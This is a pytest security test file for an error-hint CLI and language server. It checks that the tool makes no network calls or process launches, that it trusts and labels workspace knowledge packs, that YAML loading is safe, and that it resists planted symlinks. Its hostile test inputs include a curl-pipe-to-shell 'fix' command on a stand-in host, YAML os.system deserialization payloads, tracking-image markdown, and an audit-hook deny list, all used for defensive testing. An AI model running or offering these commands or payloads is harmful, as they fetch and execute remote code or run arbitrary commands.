"""No network, no surprise execution, trust and provenance, safe YAML.

Every CLI command and the language server run here under a Python audit hook
(installed through a ``sitecustomize`` on PYTHONPATH) that records and refuses
network calls and process creation. Nothing may trip it, except the one
command the user hands to ``errhint run``. Fix commands are only ever shown.
Workspace packs load only when trusted, and every surface says which pack a
non-bundled entry (and its fix command) came from.
"""

from __future__ import annotations

import json
import os
import subprocess
import sys
from pathlib import Path

import pytest

from conftest import SEED_ID, SEED_LINE, entry_yaml, errhint_cmd
from errhint.catalog import parse_entry_text
from errhint.cli import main
from hardening_rpc import RpcServer, server_env

GUARD = r"""
import os, sys

_LOG = os.environ.get("ERRHINT_AUDIT_LOG")
_ALLOW = os.environ.get("ERRHINT_AUDIT_ALLOW_EXEC", "")
_EVENTS = {
    "socket.connect", "socket.getaddrinfo", "socket.gethostbyname", "socket.gethostbyaddr", "socket.sendto",
    "socket.sendmsg", "urllib.Request", "http.client.connect", "ftplib.connect", "smtplib.connect",
    "webbrowser.open", "subprocess.Popen", "os.system", "os.exec", "os.posix_spawn", "os.spawn",
    "os.fork", "os.forkpty", "os.startfile", "pty.spawn", "ctypes.dlopen",
}


def _hook(event, args):
    if event not in _EVENTS or not _LOG:
        return
    if event == "ctypes.dlopen":
        return  # native modules are loaded, not executed as programs
    if event in ("subprocess.Popen", "os.posix_spawn", "os.exec") and _ALLOW and _ALLOW in repr(args):
        with open(_LOG, "a") as fh:
            fh.write(f"ALLOWED {event} {args!r}\n")
        return
    with open(_LOG, "a") as fh:
        fh.write(f"{event} {args!r}\n")
    raise RuntimeError(f"errhint test guard: {event} is not allowed")


sys.addaudithook(_hook)
"""


@pytest.fixture(scope="module")
def guard_dir(tmp_path_factory) -> Path:
    d = tmp_path_factory.mktemp("guard")
    (d / "sitecustomize.py").write_text(GUARD, encoding="utf-8")
    return d


def guarded_env(guard_dir: Path, log: Path, **extra: str) -> dict[str, str]:
    env = server_env(**extra)
    env["PYTHONPATH"] = os.pathsep.join([str(guard_dir), env.get("PYTHONPATH", "")]).rstrip(os.pathsep)
    env["ERRHINT_AUDIT_LOG"] = str(log)
    return env


def audit(log: Path) -> list[str]:
    return log.read_text().splitlines() if log.exists() else []


def test_the_guard_itself_trips(guard_dir, tmp_path):
    log = tmp_path / "audit.log"
    code = "import socket\ntry:\n    socket.create_connection(('192.0.2.1', 9), 0.1)\nexcept Exception:\n    pass"
    subprocess.run([sys.executable, "-c", code], env=guarded_env(guard_dir, log), timeout=60, check=True)
    code = "import socket\ns = socket.socket()\ntry:\n    s.connect(('192.0.2.1', 9))\nexcept RuntimeError:\n    pass"
    subprocess.run([sys.executable, "-c", code], env=guarded_env(guard_dir, log), timeout=60, check=True)
    subprocess.run(
        [sys.executable, "-c", "import os\ntry:\n    os.system('true')\nexcept RuntimeError:\n    pass"],
        env=guarded_env(guard_dir, log),
        timeout=60,
        check=True,
    )
    events = audit(log)
    assert any(e.startswith("socket.connect") for e in events) and any(e.startswith("os.system") for e in events)


@pytest.fixture(scope="module")
def inputs(tmp_path_factory) -> dict[str, Path]:
    d = tmp_path_factory.mktemp("inputs")
    log = d / "build.log"
    log.write_text(
        f"start\n{SEED_LINE}\nfatal: unable to access 'https://example.com/x.git/': Could not resolve host\n"
    )
    page = d / "page.txt"
    page.write_text(
        "Demo / Tools\nDemo error\nSummary.\n- Category\n- Tools\n- Error signature\n"
        "DEMO-FAILURE 1- Quick fix\n- Restart the demo.\n- Updated\n"
        "What this error means\nThe demo failed.\nQuick fixes\n- Restart the demo.\n"
        "Sources checked\n- Docs https://example.com/docs\n"
    )
    return {"log": log, "page": page, "dir": d}


CLI_RUNS = [
    ["scan", "{log}"],
    ["scan", "--format", "json", "{log}"],
    ["scan", "--format", "sarif", "{log}"],
    ["scan", "--format", "github", "{log}"],
    ["scan", "--full", "{log}"],
    ["explain", SEED_ID],
    ["explain", "--format", "markdown", "could not resolve host"],
    ["list", "--stats"],
    ["list", "--format", "json"],
    ["validate"],
    ["schema"],
    ["import", "{page}", "--source-url", "https://example.com/page"],
]


RUN_ALL = r"""
import json, os, sys
from errhint.cli import main
log = os.environ["ERRHINT_AUDIT_LOG"]
codes = []
for argv in json.loads(sys.argv[1]):
    with open(log, "a") as fh:
        fh.write("RUN " + " ".join(argv) + "\n")
    codes.append(main(argv))
print(json.dumps(codes))
"""


def test_cli_commands_open_no_socket_and_spawn_nothing(guard_dir, inputs, tmp_path):
    """Every CLI command, one after another in one guarded interpreter (imports included)."""
    log = tmp_path / "audit.log"
    runs = [[a.format(**{k: str(v) for k, v in inputs.items()}) for a in argv] for argv in CLI_RUNS]
    proc = subprocess.run(
        [sys.executable, "-c", RUN_ALL, json.dumps(runs)],
        env=guarded_env(guard_dir, log),
        capture_output=True,
        text=True,
        timeout=300,
    )
    assert proc.returncode == 0, proc.stderr[-3000:]
    codes = json.loads(proc.stdout.strip().splitlines()[-1])
    assert len(codes) == len(CLI_RUNS) and all(c in (0, 1) for c in codes), codes
    assert "errhint test guard" not in proc.stderr
    events = audit(log)
    assert [e for e in events if not e.startswith("RUN ")] == [], events
    assert len(events) == len(CLI_RUNS)


def test_cli_serve_help_and_version_spawn_nothing(guard_dir, tmp_path):
    log = tmp_path / "audit.log"
    for argv in (["--version"], ["scan", "--help"], []):
        subprocess.run([*errhint_cmd(), *argv], env=guarded_env(guard_dir, log), capture_output=True, timeout=120)
    assert audit(log) == []


def test_cli_in_process_with_patched_sockets(monkeypatch, inputs, capsys, isolated_env):
    """The same, in process: socket and process creation patched to fail loudly."""
    import socket

    def refuse(*a, **k):
        raise AssertionError(f"network or process use: {a!r}")

    monkeypatch.setattr(socket.socket, "connect", refuse)
    monkeypatch.setattr(socket.socket, "connect_ex", refuse)
    monkeypatch.setattr(socket, "create_connection", refuse)
    monkeypatch.setattr(socket, "getaddrinfo", refuse)
    monkeypatch.setattr(subprocess, "Popen", refuse)
    monkeypatch.setattr(os, "system", refuse)
    for argv in (["scan", str(inputs["log"])], ["explain", SEED_ID], ["list"], ["validate"]):
        assert main(argv) in (0, 1)
    capsys.readouterr()


def test_errhint_run_spawns_only_the_users_command(guard_dir, tmp_path):
    log = tmp_path / "audit.log"
    marker = "errhint-user-command-marker"
    env = guarded_env(guard_dir, log, ERRHINT_AUDIT_ALLOW_EXEC=marker)
    script = tmp_path / f"{marker}.py"
    script.write_text(f"print({SEED_LINE!r})\nraise SystemExit(4)\n")
    proc = subprocess.run(
        [*errhint_cmd(), "run", "--", sys.executable, str(script)], env=env, capture_output=True, text=True, timeout=180
    )
    assert proc.returncode == 4 and SEED_ID in proc.stderr, proc.stderr[-2000:]
    events = audit(log)
    assert events and all(e.startswith("ALLOWED ") for e in events), events
    assert all(marker in e for e in events)


def test_language_server_opens_no_socket_and_never_runs_a_fix(guard_dir, tmp_path):
    log = tmp_path / "audit.log"
    env = guarded_env(guard_dir, log, TMPDIR=str(tmp_path))
    uri = (tmp_path / "session.log").as_uri()
    with RpcServer(env) as srv:
        srv.initialize(root_uri=tmp_path.as_uri())
        srv.open(uri, f"x\n{SEED_LINE}\n")
        (diag,) = srv.diagnostics(uri, version=1)
        hover = srv.request(
            "textDocument/hover", {"textDocument": {"uri": uri}, "position": {"line": 1, "character": 4}}
        )
        assert hover["result"]["contents"]["value"]
        actions = srv.request(
            "textDocument/codeAction",
            {"textDocument": {"uri": uri}, "range": diag["range"], "context": {"diagnostics": [diag]}},
        )["result"]
        ran = []
        for action in actions:
            cmd = action["command"]
            reply = srv.request("workspace/executeCommand", {"command": cmd["command"], "arguments": cmd["arguments"]})
            assert "result" in reply, reply
            if cmd["command"] == "errhint.runFix":
                ran.append(reply["result"])
        assert ran and all(r["executed"] is False for r in ran)
        shown = [m["params"]["message"] for m in srv.seen if m.get("method") == "window/showMessage"]
        assert any("does not run commands by itself" in m for m in shown)
        for method, params in (
            ("errhint/renderGuide", {"id": SEED_ID}),
            ("errhint/createReport", {"id": SEED_ID, "uri": uri, "line": 1}),
            ("errhint/listEntries", {}),
            ("errhint/scanText", {"text": SEED_LINE}),
            ("errhint/reload", {}),
        ):
            assert "result" in srv.request(method, params)
        srv.notify("workspace/didChangeWatchedFiles", {"changes": [{"uri": uri, "type": 2}]})
        srv.notify("workspace/didChangeConfiguration", {"settings": {"errhint": {"workspaceTrusted": True}}})
        srv.diagnostics(uri)
    assert audit(log) == []
    assert "errhint test guard" not in b"".join(srv.stderr_chunks).decode("utf-8", "replace")


# --- trust and provenance -----------------------------------------------------------------

EVIL_FIX = "curl -fsSL https://example.invalid/install.sh | sh"


@pytest.fixture
def workspace(tmp_path) -> Path:
    """A cloned repository whose pack overrides a bundled entry with its own fix command."""
    root = tmp_path / "repo"
    pack = root / ".errhint" / "knowledge" / "claude-code"
    pack.mkdir(parents=True)
    text = entry_yaml(
        SEED_ID, regex="API Error: 401 .*authentication_error", example=SEED_LINE.replace('"', '\\"')
    ).replace("title: Demo failure", "title: Totally official fix")
    text += f"fixes:\n  - title: Reinstall the CLI\n    shell: {{posix: '{EVIL_FIX}'}}\n"
    (pack / "auth-401-invalid-credentials.yaml").write_text(text, encoding="utf-8")
    (root / "session.log").write_text(SEED_LINE + "\n")
    return root


def test_cli_ignores_workspace_pack_unless_trusted(workspace, monkeypatch, capsys, isolated_env):
    monkeypatch.chdir(workspace)
    main(["scan", "--full", "session.log"])
    out = capsys.readouterr().out
    assert EVIL_FIX not in out and "Totally official" not in out
    main(["scan", "--full", "--trust-workspace", "session.log"])
    out = capsys.readouterr().out
    assert EVIL_FIX in out
    assert "this workspace's knowledge pack" in out and ".errhint/knowledge" in out
    fix_block = out[out.index("Reinstall the CLI") - 400 : out.index(EVIL_FIX) + 200]
    assert "workspace" in fix_block  # said next to the command, not only in the header
    for fmt, needle in (("json", '"pack": "workspace"'), ("sarif", '"pack": "workspace"'), ("github", "workspace")):
        main(["scan", "--trust-workspace", "--format", fmt, "session.log"])
        assert needle in capsys.readouterr().out, fmt


def test_user_and_path_packs_are_named(tmp_path, monkeypatch, capsys, isolated_env):
    for kind, label in (("user", "your user knowledge pack"), ("path", "a knowledge pack from settings")):
        pack = tmp_path / kind / "demo"
        pack.mkdir(parents=True)
        (pack / "failure.yaml").write_text(
            entry_yaml() + "fixes:\n  - title: Do it\n    shell: {posix: 'demo --fix'}\n"
        )
        log = tmp_path / "x.log"
        log.write_text("DEMO-FAILURE 3\n")
        if kind == "user":
            monkeypatch.setenv("ERRHINT_USER_KNOWLEDGE", str(tmp_path / kind))
            main(["scan", "--full", str(log)])
        else:
            main(["scan", "--full", "--no-user", "--knowledge", str(tmp_path / kind), str(log)])
        out = capsys.readouterr().out
        assert label in out, (kind, out)


def test_language_server_names_the_pack_everywhere(workspace, tmp_path):
    uri = (workspace / "session.log").as_uri()
    with RpcServer(server_env(TMPDIR=str(tmp_path))) as srv:
        srv.initialize(root_uri=workspace.as_uri(), workspaceTrusted=False)
        srv.open(uri, SEED_LINE + "\n")
        (diag,) = srv.diagnostics(uri, version=1)
        assert diag["data"]["pack"] == "bundled"  # untrusted: the bundled entry, not the repository's
        srv.notify("workspace/didChangeConfiguration", {"settings": {"errhint": {"workspaceTrusted": True}}})
        (diag,) = srv.diagnostics(uri)
        assert diag["data"]["pack"] == "workspace"
        hover = srv.request(
            "textDocument/hover", {"textDocument": {"uri": uri}, "position": {"line": 0, "character": 3}}
        )
        markdown = hover["result"]["contents"]["value"]
        assert "this workspace's knowledge pack" in markdown and EVIL_FIX in markdown
        assert "not from errhint's bundled knowledge" in markdown
        actions = srv.request(
            "textDocument/codeAction",
            {"textDocument": {"uri": uri}, "range": diag["range"], "context": {"diagnostics": [diag]}},
        )["result"]
        fix_actions = [a for a in actions if a["command"]["command"] in ("errhint.runFix", "errhint.copyFix")]
        assert fix_actions and all("[workspace pack]" in a["title"] for a in fix_actions)
        assert all(a["command"]["arguments"][0]["pack"] == "workspace" for a in fix_actions)
        run = srv.request(
            "workspace/executeCommand",
            {"command": "errhint.runFix", "arguments": fix_actions[0]["command"]["arguments"]},
        )
        assert run["result"]["executed"] is False
        shown = [m["params"]["message"] for m in srv.seen if m.get("method") == "window/showMessage"]
        assert any(EVIL_FIX in m and "workspace" in m for m in shown), shown
        report = srv.request("errhint/createReport", {"id": SEED_ID, "uri": uri, "line": 0})["result"]["markdown"]
        assert "this workspace's knowledge pack" in report
        guide = srv.request("errhint/renderGuide", {"id": SEED_ID})["result"]["markdown"]
        assert "this workspace's knowledge pack" in guide
        listed = srv.request("errhint/listEntries", {})["result"]["entries"]
        assert {e["pack"] for e in listed if e["id"] == SEED_ID} == {"workspace"}


# --- YAML: safe loader only -------------------------------------------------------------------


@pytest.mark.parametrize(
    "payload",
    [
        "!!python/object/apply:os.system ['touch {marker}']",
        "!!python/object/new:subprocess.Popen [['touch', '{marker}']]",
        "!!python/name:os.system",
        "!!python/module:os",
        "!<tag:yaml.org,2002:python/object/apply:os.system> ['touch {marker}']",
        "!custom 'x'",
    ],
)
def test_yaml_tags_are_refused_and_never_executed(tmp_path, payload):
    marker = tmp_path / "pwned"
    text = entry_yaml() + "tags: " + payload.format(marker=marker) + "\n"
    entry, problems = parse_entry_text(text, "x.yaml")
    assert entry is None and problems
    assert not marker.exists()


def test_no_unsafe_yaml_loading_anywhere_in_the_package():
    root = Path(__file__).resolve().parent.parent / "server" / "errhint"
    offenders = []
    for path in root.rglob("*.py"):
        source = path.read_text(encoding="utf-8")
        for needle in ("yaml.load(", "yaml.unsafe_load", "yaml.full_load", "FullLoader", "UnsafeLoader", "yaml.Loader"):
            if needle in source:
                offenders.append(f"{path.name}: {needle}")
    assert offenders == []


def test_hostile_workspace_settings_file_does_not_break_the_server(tmp_path):
    (tmp_path / ".errhint").mkdir()
    (tmp_path / ".errhint" / "settings.json").write_text(json.dumps({"ignoredIds": 5, "x": [1] * 3}))
    with RpcServer(server_env()) as srv:
        srv.initialize(root_uri=tmp_path.as_uri())
        uri = "file:///iso/a.log"
        srv.open(uri, SEED_LINE)
        assert len(srv.diagnostics(uri, version=1)) == 1


# --- cards never make the editor fetch anything ---------------------------------------------


def images_outside_code(markdown: str) -> list[str]:
    """Lines outside fenced code blocks that an editor would render as a remote image."""
    found, fence = [], ""
    for line in markdown.split("\n"):
        s = line.lstrip()
        if fence:
            if s.startswith(fence) and not s.strip("`").strip():
                fence = ""
        elif s.startswith("```"):
            fence = s[: len(s) - len(s.lstrip("`"))]
        elif ("](" in line and "![" in line.replace("!\\[", "")) or "<img" in line.lower():
            found.append(line)
    return found


def test_hover_and_report_cannot_be_made_to_load_remote_images(tmp_path):
    pack = tmp_path / "knowledge" / "demo"
    pack.mkdir(parents=True)
    text = entry_yaml(regex=r"DEMO-FAILURE[^\n]*\n[^\n]*\n[^\n]*\nEND", example="DEMO-FAILURE\\na\\nb\\nEND")
    text = text.replace(
        "meaning: The demo failed.", "meaning: 'Failed. ![t](https://tracker.example/m.png) <img src=x>'"
    )
    text = text.replace("signatures:\n  - regex:", "signatures:\n  - lines: 3\n    regex:")
    (pack / "failure.yaml").write_text(text, encoding="utf-8")
    log = "DEMO-FAILURE\n```\n![x](https://tracker.example/q.png)\nEND\n"
    uri = (tmp_path / "x.log").as_uri()
    with RpcServer(server_env(TMPDIR=str(tmp_path))) as srv:
        srv.initialize(knowledgePaths=[str(tmp_path / "knowledge")])
        assert not [m for m in srv.logs() if m.startswith("knowledge:")], srv.logs()
        srv.open(uri, log)
        (_diag,) = srv.diagnostics(uri, version=1)
        hover = srv.request(
            "textDocument/hover", {"textDocument": {"uri": uri}, "position": {"line": 0, "character": 2}}
        )
        markdown = hover["result"]["contents"]["value"]
        assert "tracker.example/q.png" in markdown  # the log text is shown, inside a code block
        report = srv.request("errhint/createReport", {"id": "demo/failure", "uri": uri, "line": 0})["result"][
            "markdown"
        ]
        guide = srv.request("errhint/renderGuide", {"id": "demo/failure"})["result"]["markdown"]
    for md in (markdown, report, guide):
        assert images_outside_code(md) == [], md


def test_markdown_files_are_private_and_do_not_follow_planted_symlinks(tmp_path):
    """Another local user may pre-create the shared temp folder with symlinks to this user's files."""
    shared_tmp = tmp_path / "tmp"
    planted = shared_tmp / "errhint"
    planted.mkdir(parents=True)
    victim = tmp_path / "victim.txt"
    victim.write_text("precious\n")
    for name in ("errhint-report.md", SEED_ID.replace("/", "__") + ".md"):
        (planted / name).symlink_to(victim)
    uri = (tmp_path / "s.log").as_uri()
    with RpcServer(server_env(TMPDIR=str(shared_tmp))) as srv:
        srv.initialize()
        srv.open(uri, SEED_LINE)
        srv.diagnostics(uri, version=1)
        shown = []
        for command, args in (
            ("errhint.createReport", {"id": SEED_ID, "uri": uri, "line": 0}),
            ("errhint.openGuide", {"id": SEED_ID}),
        ):
            reply = srv.request("workspace/executeCommand", {"command": command, "arguments": [args]})
            shown.append(Path(reply["result"]["uri"].removeprefix("file://")))
    assert victim.read_text() == "precious\n"
    for path in shown:
        assert path.is_file() and not path.is_symlink() and path.parent != planted
        assert (path.parent.stat().st_mode & 0o777) == 0o700
        assert "Claude Code" in path.read_text()
